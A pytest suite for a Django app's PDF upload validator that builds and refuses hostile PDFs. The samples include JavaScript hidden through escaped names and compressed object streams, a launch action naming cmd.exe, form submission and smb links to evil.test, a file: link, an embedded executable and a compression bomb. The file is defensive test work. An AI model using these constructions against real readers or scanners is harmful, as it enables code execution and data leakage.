"""A PDF that would run, carry or unpack anything besides its pages is refused (issue 14):
JavaScript wherever it hides, launch and file actions, embedded files, XFA forms, multimedia,
encryption, compression bombs. The hostile files are made here, with pypdf's writer or as
raw bytes; plain PDFs with page jumps and web links are still taken.
"""

from __future__ import annotations

import io
import os
import random
import subprocess
import time
import tracemalloc
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from epics.models import Document
from tests.factories import pdf_bytes
from tests.portal.pages import sign_in, world
from tests.security.test_uploads import _form, stored_files
from workflow import documents
from workflow.documents import check_pdf

MB = 1024 * 1024


def name(value: str) -> NameObject:
    return NameObject(value)


def dictionary(**entries) -> DictionaryObject:
    """A PDF dictionary from keyword arguments: strings starting with / are names."""
    out = DictionaryObject()
    for key, value in entries.items():
        if isinstance(value, str):
            value = name(value) if value.startswith("/") else TextStringObject(value)
        out[name("/" + key)] = value
    return out


def writer() -> PdfWriter:
    pdf = PdfWriter()
    pdf.add_blank_page(612, 792)
    return pdf


def written(pdf: PdfWriter) -> bytes:
    out = io.BytesIO()
    pdf.write(out)
    return out.getvalue()


def javascript() -> DictionaryObject:
    return dictionary(Type="/Action", S="/JavaScript", JS="app.alert(1)")


def with_root(**entries) -> bytes:
    pdf = writer()
    for key, value in entries.items():
        pdf._root_object[name("/" + key)] = pdf._add_object(value)
    return written(pdf)


def with_page(**entries) -> bytes:
    pdf = writer()
    for key, value in entries.items():
        pdf.pages[0][name("/" + key)] = value
    return written(pdf)


def with_annotation(annotation: DictionaryObject) -> bytes:
    pdf = writer()
    annotation.update(dictionary(Type="/Annot"))
    annotation[name("/Rect")] = ArrayObject([FloatObject(n) for n in (10, 10, 100, 100)])
    pdf.add_annotation(0, annotation)
    return written(pdf)


def with_field(**entries) -> bytes:
    pdf = writer()
    field = dictionary(FT="/Tx", T="name", Subtype="/Widget", **entries)
    field[name("/Rect")] = ArrayObject([FloatObject(n) for n in (10, 10, 100, 30)])
    reference = pdf.add_annotation(0, field)
    form = DictionaryObject({name("/Fields"): ArrayObject([reference])})
    pdf._root_object[name("/AcroForm")] = pdf._add_object(form)
    return written(pdf)


def with_script_in_names() -> bytes:
    pdf = writer()
    scripts = ArrayObject([TextStringObject("hello"), pdf._add_object(javascript())])
    names = dictionary(JavaScript=dictionary(Names=scripts))
    pdf._root_object[name("/Names")] = pdf._add_object(names)
    return written(pdf)


def with_attachment() -> bytes:
    pdf = writer()
    pdf.add_attachment("payload.exe", b"MZ\x90\x00 not really")
    return written(pdf)


def with_xfa() -> bytes:
    pdf = writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    form = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): pdf._add_object(xfa)}
    )
    pdf._root_object[name("/AcroForm")] = pdf._add_object(form)
    return written(pdf)


def encrypted(password: str) -> bytes:
    pdf = writer()
    pdf.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    return written(pdf)


def with_stream(data: bytes, filters: str) -> bytes:
    """A one-page PDF whose page content is `data`, stored under `filters`."""
    pdf = writer()
    stream = StreamObject()
    stream._data = data
    stream[name("/Filter")] = name(filters)
    stream[name("/Length")] = NumberObject(len(data))
    pdf.pages[0][name("/Contents")] = pdf._add_object(stream)
    return written(pdf)


def deflated_zeros(size: int) -> bytes:
    """`size` zero bytes, deflated piecewise (the test never holds them either)."""
    deflater, block = zlib.compressobj(9), bytes(MB)
    parts = [deflater.compress(block) for _ in range(size // MB)]
    return b"".join([*parts, deflater.compress(bytes(size % MB)), deflater.flush()])


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """200 MB of zeros in a page's content stream, stored in about 200 KB."""
    return with_stream(deflated_zeros(200 * MB), "/FlateDecode")


def raw_pdf(*objects: bytes, unlisted: int = 0) -> bytes:
    """A PDF from raw object bodies (1 is the catalog), with its cross-reference table; the
    last `unlisted` objects are left out of the table."""
    content, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets = offsets[: len(offsets) - unlisted]
    xref = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        xref,
    )


PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
)

def in_object_stream(hidden: bytes) -> bytes:
    """A PDF whose /OpenAction is object 5, stored deflated inside an object stream (4) and
    listed by a cross-reference stream (6): no byte of it shows in the file."""
    content, offsets = b"%PDF-1.7\n", {}
    bodies = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", *PAGES]
    for number, body in enumerate(bodies, 1):
        offsets[number] = len(content)
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    packed = zlib.compress(b"5 0 " + hidden)
    offsets[4] = len(content)
    content += (
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[6] = len(content)
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + bytes(2) for n in (1, 2, 3, 4)]
    rows += [b"\x02" + (4).to_bytes(4, "big") + bytes(2)]  # object 5: in stream 4, first
    rows += [b"\x01" + offsets[6].to_bytes(4, "big") + bytes(2)]
    table = b"".join(rows)
    content += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    return content + b"startxref\n%d\n%%%%EOF\n" % offsets[6]


HOSTILE = {
    # JavaScript, wherever it hides
    "a document-level script (/Names /JavaScript)": (with_script_in_names, documents.SCRIPT),
    "a script on opening (/OpenAction)": (lambda: with_root(OpenAction=javascript()), "JavaScript"),
    "a script on a page's actions (/AA)": (
        lambda: with_page(AA=dictionary(O=javascript())),
        "JavaScript",
    ),
    "a script on a link (/A)": (
        lambda: with_annotation(dictionary(Subtype="/Link", A=javascript())),
        "JavaScript",
    ),
    "a script on an annotation's actions (/AA)": (
        lambda: with_annotation(dictionary(Subtype="/Square", AA=dictionary(E=javascript()))),
        "JavaScript",
    ),
    "a script on a form field (/AA)": (
        lambda: with_field(AA=dictionary(K=javascript())),
        "JavaScript",
    ),
    "a script chained after a page jump (/Next)": (
        lambda: with_root(
            OpenAction=dictionary(
                S="/GoTo", D=ArrayObject([NumberObject(0), name("/Fit")]), Next=javascript()
            )
        ),
        "JavaScript",
    ),
    "a script behind #-escaped names (/J#53, /Java#53cript)": (
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /S /Java#53cript /J#53 (app.alert(1)) >>",
        ),
        "JavaScript",
    ),
    "a script in an object no table lists but a reference reaches": (
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /S /JavaScript /JS (app.alert(1)) >>",
            unlisted=1,
        ),
        "JavaScript",
    ),
    "a script inside a compressed object stream": (
        lambda: in_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "JavaScript",
    ),
    # Actions beyond page jumps and web links
    "a launch action on opening": (
        lambda: with_root(OpenAction=dictionary(S="/Launch", F="cmd.exe")),
        "Launch action, which starts a program",
    ),
    "a launch action on a link": (
        lambda: with_annotation(dictionary(Subtype="/Link", A=dictionary(S="/Launch", F="x"))),
        "Launch action",
    ),
    "a link to another file (/GoToR)": (
        lambda: with_annotation(
            dictionary(Subtype="/Link", A=dictionary(S="/GoToR", F="\\\\evil\\share\\x.pdf"))
        ),
        "GoToR action, which opens another file",
    ),
    "a form that sends itself away (/SubmitForm)": (
        lambda: with_page(AA=dictionary(C=dictionary(S="/SubmitForm", F="https://evil.test"))),
        "SubmitForm action",
    ),
    "a link to a file: address": (
        lambda: with_annotation(
            dictionary(Subtype="/Link", A=dictionary(S="/URI", URI="file:///C:/Windows/calc.exe"))
        ),
        "link to file:",
    ),
    "a link to a UNC share by smb:": (
        lambda: with_root(OpenAction=dictionary(S="/URI", URI="smb://evil.test/share")),
        "link to smb:",
    ),
    # Files, forms and media carried inside
    "an embedded file (/EmbeddedFiles)": (with_attachment, documents.EMBEDDED),
    "a file attachment annotation": (
        lambda: with_annotation(dictionary(Subtype="/FileAttachment", Contents="x")),
        documents.EMBEDDED,
    ),
    "an XFA form": (with_xfa, documents.XFA),
    "rich media (Flash)": (
        lambda: with_annotation(dictionary(Subtype="/RichMedia")),
        documents.MEDIA,
    ),
    "a 3D annotation": (lambda: with_annotation(dictionary(Subtype="/3D")), documents.MEDIA),
    "a movie": (lambda: with_annotation(dictionary(Subtype="/Movie")), documents.MEDIA),
    "a sound": (lambda: with_annotation(dictionary(Subtype="/Sound")), documents.MEDIA),
    "a screen annotation": (
        lambda: with_annotation(dictionary(Subtype="/Screen")),
        documents.MEDIA,
    ),
    # Files that cannot be checked
    "encrypted with an empty password": (lambda: encrypted(""), documents.ENCRYPTED),
    "encrypted with a password": (lambda: encrypted("secret"), documents.ENCRYPTED),
    "a PDF header on garbage": (lambda: b"%PDF-1.7\nnot a pdf at all\n%%EOF\n", "cannot be read"),
    "no pages": (
        lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
        ),
        documents.NO_PAGES,
    ),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_check_pdf_refuses_it_saying_what_and_what_to_do(db, case):
    build, expected = HOSTILE[case]
    content = build()

    problems = check_pdf(SimpleUploadedFile("letter.pdf", content))

    assert problems, f"{case} was accepted"
    assert any(expected in problem for problem in problems), problems
    assert all(problem.endswith(".") and ": " in problem for problem in problems)


@pytest.mark.parametrize("case", HOSTILE)
def test_the_api_and_the_page_refuse_it_and_store_nothing(client, db, settings, case):
    demo = world()
    content = HOSTILE[case][0]()
    documents_before, files = Document.objects.count(), stored_files(settings)
    signed_in = sign_in(client, demo.alice)

    page = signed_in.post(
        f"/epics/{demo.mission.pk}/documents/",
        _form(file=SimpleUploadedFile("letter.pdf", content, "application/pdf")),
    )
    api = signed_in.post(
        "/api/v1/documents/",
        _form(demo.mission, file=SimpleUploadedFile("letter.pdf", content, "application/pdf")),
    )

    assert page.status_code == 400 and page.context["upload_form"].errors["file"]
    assert api.status_code == 400 and api.json()["file"] == [check_pdf(io.BytesIO(content))[0]]
    assert Document.objects.count() == documents_before
    assert stored_files(settings) == files


def test_a_compression_bomb_is_refused_fast_and_without_the_memory(db, bomb):
    assert len(bomb) < 250 * 1024  # 200 MB stored in about 200 KB
    tracemalloc.start()
    started = time.perf_counter()
    try:
        problems = check_pdf(SimpleUploadedFile("letter.pdf", bomb))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert problems == [documents.too_much_content(64 * MB)]
    assert "more than 64 MB" in problems[0] and "compression bomb" in problems[0]
    assert time.perf_counter() - started < 10
    assert peak < 8 * MB, f"{peak / MB:.0f} MB held while checking"


def test_many_streams_may_not_unpack_to_more_than_the_total(db, settings):
    settings.PDF_MAX_INFLATED_BYTES = 3 * MB
    pdf = writer()
    for _ in range(4):
        page = pdf.add_blank_page(612, 792)
        stream = StreamObject()
        stream._data = deflated_zeros(1 * MB)
        stream[name("/Filter")] = name("/FlateDecode")
        page[name("/Contents")] = pdf._add_object(stream)
    content = written(pdf)

    assert check_pdf(io.BytesIO(content)) == [documents.too_much_content(3 * MB)]
    settings.PDF_MAX_INFLATED_BYTES = 5 * MB
    assert check_pdf(io.BytesIO(content)) == []


def test_a_bomb_in_another_filter_is_stopped_by_pypdf_s_limit(db, settings):
    """RunLengthDecode: 2 bytes say "128 zeros"; pypdf decodes it, within the stream bound."""
    settings.PDF_MAX_STREAM_BYTES = 1 * MB
    content = with_stream(b"\x81\x00" * 10_000 + b"\x80", "/RunLengthDecode")  # 1.28 MB

    assert check_pdf(io.BytesIO(content)) == [documents.too_much_content(1 * MB)]
    settings.PDF_MAX_STREAM_BYTES = 2 * MB
    assert check_pdf(io.BytesIO(content)) == []


def plain_links_and_jumps() -> bytes:
    pdf = writer()
    pdf.add_blank_page(612, 792)
    for page in pdf.pages:
        text = DecodedStreamObject()
        text.set_data(b"BT /F1 12 Tf 72 720 Td (Signed) Tj ET\n" * 50)
        page[name("/Contents")] = pdf._add_object(text)
        page.compress_content_streams()  # deflated
    pdf.add_annotation(0, Link(rect=(10, 10, 100, 30), url="https://mdo.example/letter"))
    pdf.add_annotation(0, Link(rect=(10, 40, 100, 60), target_page_index=1))
    pdf.add_annotation(
        0,
        dictionary(
            Type="/Annot",
            Subtype="/Link",
            A=dictionary(S="/URI", URI="mailto:cyber@mdo.example"),
            Rect=ArrayObject([FloatObject(n) for n in (10, 70, 100, 90)]),
        ),
    )
    pdf.add_outline_item("Signature", 1)
    goto = dictionary(S="/GoTo", D=ArrayObject([pdf.pages[1].indirect_reference, name("/Fit")]))
    pdf._root_object[name("/OpenAction")] = pdf._add_object(goto)
    pdf.pages[0][name("/AA")] = dictionary(O=dictionary(S="/Named", N="/FirstPage"))
    return written(pdf)


ACCEPTED = {
    "the factories' PDF": pdf_bytes,
    "pypdf's blank page": lambda: written(writer()),
    "web and mail links, page jumps, an outline, /OpenAction GoTo, a Named /AA": (
        plain_links_and_jumps
    ),
    "a deflated content stream just under the stream bound": (
        lambda: with_stream(deflated_zeros(64 * MB - 1024), "/FlateDecode")
    ),
    "XMP metadata (XML, not HTML)": (
        lambda: pdf_bytes(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF></rdf:RDF></x:xmpmeta>')
    ),
    "a page jump inside a compressed object stream": (
        lambda: in_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    ),
    "hex strings that start like tags (<ab12>, <b0>, <a1>)": lambda: pdf_bytes(b"<ab12> <b0> <a1>"),
}


@pytest.mark.parametrize("case", ACCEPTED)
def test_plain_pdfs_are_still_taken(db, case):
    assert check_pdf(SimpleUploadedFile("letter.pdf", ACCEPTED[case]())) == []


CHROMIUM = os.environ.get("CHROMIUM_PATH", "/usr/bin/chromium")


@pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK), reason=f"needs Chromium at {CHROMIUM}")
def test_the_advice_works_a_page_printed_to_pdf_is_taken(db, tmp_path):
    """Every refusal says "print it to PDF again": what a browser prints is a plain PDF,
    even of a page with a script, a link, an image and an embed."""
    page = tmp_path / "letter.html"
    page.write_text(
        "<!doctype html><html><body><h1>CtF letter</h1><script>document.title='x'</script>"
        '<p>Signed, <a href="https://mdo.example/letter">the MDO</a>.</p>'
        '<embed src="nothing.swf"><img alt="signature" width="200" height="80"></body></html>'
    )
    printed = tmp_path / "letter.pdf"
    subprocess.run(
        [
            CHROMIUM,
            *("--headless", "--no-sandbox", "--disable-gpu", "--no-pdf-header-footer"),
            f"--user-data-dir={tmp_path / 'profile'}",
            f"--print-to-pdf={printed}",
            page.as_uri(),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )

    assert check_pdf(io.BytesIO(printed.read_bytes())) == []


def test_a_large_plain_pdf_spooled_to_disk_is_taken(client, db, settings):
    """Over FILE_UPLOAD_MAX_MEMORY_SIZE Django hands the upload over as a temporary file:
    pypdf reads that as well, and the document is stored."""
    demo = world()
    scan = random.Random(14).randbytes(settings.FILE_UPLOAD_MAX_MEMORY_SIZE + MB)
    content = with_stream(scan, "/DCTDecode")
    documents_before = Document.objects.count()

    response = sign_in(client, demo.alice).post(
        "/api/v1/documents/",
        _form(demo.mission, file=SimpleUploadedFile("scan.pdf", content, "application/pdf")),
    )

    assert response.status_code == 201, response.content[:500]
    assert Document.objects.count() == documents_before + 1
    assert Document.objects.latest("pk").size == len(content)
